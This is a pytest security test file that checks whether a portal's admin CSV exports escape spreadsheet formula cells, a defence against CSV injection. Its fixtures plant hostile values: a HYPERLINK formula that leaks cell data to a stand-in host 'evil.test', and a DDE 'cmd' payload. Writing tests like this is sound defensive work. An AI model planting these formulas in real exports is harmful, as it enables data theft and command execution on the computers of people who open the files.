"""Finding 2: a hostile tenant admin (or OpenBoxes data) plants spreadsheet formulas that support's CSV
exports must hand over as text (OWASP: a leading quote before = + - @ tab CR)."""

from __future__ import annotations

import csv
import io

import pytest

from portal.models import Tenant
from tests.factories import seed_tenant_rows
from tests.security.web_helpers import FORMULA_STARTS, web_page_text, web_sign_in, web_tenant_form

HOSTILE_NAME = '=HYPERLINK("http://evil.test/?leak="&A1,"Open")'
EXPORTS = [
    "/admin/activity/export/csv/",
    "/admin/runs/export/csv/",
    "/admin/product_links/export/csv/",
    "/admin/mappings/export/csv/",
    "/admin/entity_links/export/csv/",
    "/admin/watermarks/export/csv/",
    "/admin/audit/export/csv/",
]


@pytest.fixture
def planted(client, auth, two_tenants, db):
    """Acme's admin renames the tenant to a formula over HTTP; Acme's OpenBoxes rows start with '@' and '+'."""
    acme = two_tenants["acme"]
    seed_tenant_rows(acme, "@SUM(1+1)")
    seed_tenant_rows(two_tenants["bolt"], "+cmd|' /C calc'!A0")
    db.session.commit()
    web_sign_in(auth, two_tenants, "acme")
    response = auth.post(f"/admin/tenants/edit/?id={acme.id}", data=web_tenant_form(acme, name=HOSTILE_NAME))
    assert response.status_code == 302, web_page_text(response)
    db.session.expire_all()
    assert db.session.get(Tenant, acme.id).name == HOSTILE_NAME
    auth.logout()
    web_sign_in(auth, two_tenants, "support")
    return auth


@pytest.mark.parametrize("path", EXPORTS)
def test_support_exports_escape_every_formula_cell(planted, client, path):
    response = client.get(path)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert len(rows) > 1, "the export holds the planted rows"
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


def test_escaped_cells_keep_their_text(planted, client):
    rows = list(csv.reader(io.StringIO(client.get("/admin/product_links/export/csv/").get_data(as_text=True))))
    cells = {cell for row in rows[1:] for cell in row}
    assert "'" + HOSTILE_NAME in cells
    assert "'@SUM(1+1)-sku" in cells
